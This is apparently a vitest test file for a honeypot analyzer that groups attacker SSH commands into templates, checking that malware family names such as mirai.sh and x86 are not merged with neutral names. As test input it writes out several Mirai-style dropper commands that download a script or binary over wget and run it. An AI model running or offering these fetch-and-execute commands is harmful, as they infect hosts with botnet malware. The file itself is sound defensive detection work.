// Templates as the analyzer stores them: payloads whose skeletons match share a template only
// when the rules say the same of them, so a name a rule keys on (mirai.sh, x86, pma2019) is
// never hidden in a group of neutral ones, while random names still group.

import { describe, expect, it } from 'vitest';
import type { MitsuEvent } from '../events/event.js';
import { makeEvent } from '../store/fixtures.js';
import { Analyzer, DEFAULT_ANALYZER_SPEC } from './analyzer.js';

const analyzer = Analyzer.open({ ...DEFAULT_ANALYZER_SPEC, enrich: false, memo: false });

function session(command: string): MitsuEvent {
  return makeEvent(0, { protocol: 'ssh', dst_port: 22, commands: [command],
    fields: { client_version: 'SSH-2.0-Go', login: 'root', shell: true },
    credentials: [{ username: 'root', password: 'root' }] }, Buffer.from('SSH-2.0-Go\r\n'));
}

const templateOf = (command: string) => analyzer.analyze(session(command)).template;

describe('templates stored by the analyzer', () => {
  it('keep a family file name apart from a neutral one with the same shape', () => {
    const mirai = templateOf('cd /tmp; wget http://198.51.100.1/mirai.sh; sh mirai.sh');
    const plain = templateOf('cd /tmp; wget http://198.51.100.1/ab.sh; sh ab.sh');
    expect(mirai).not.toBeNull();
    expect(mirai).not.toBe(plain);
    expect(templateOf('wget http://198.51.100.1/bins/x86; chmod 777 x86; ./x86'))
      .not.toBe(templateOf('wget http://198.51.100.1/bins/x64; chmod 777 x64; ./x64'));
  });

  it('still group droppers that differ only in a random file name and the host', () => {
    expect(templateOf('cd /tmp; wget http://198.51.100.5/kqhzrw.sh; sh kqhzrw.sh'))
      .toBe(templateOf('cd /tmp; wget http://203.0.113.9/pwxjta.sh; sh pwxjta.sh'));
  });
});
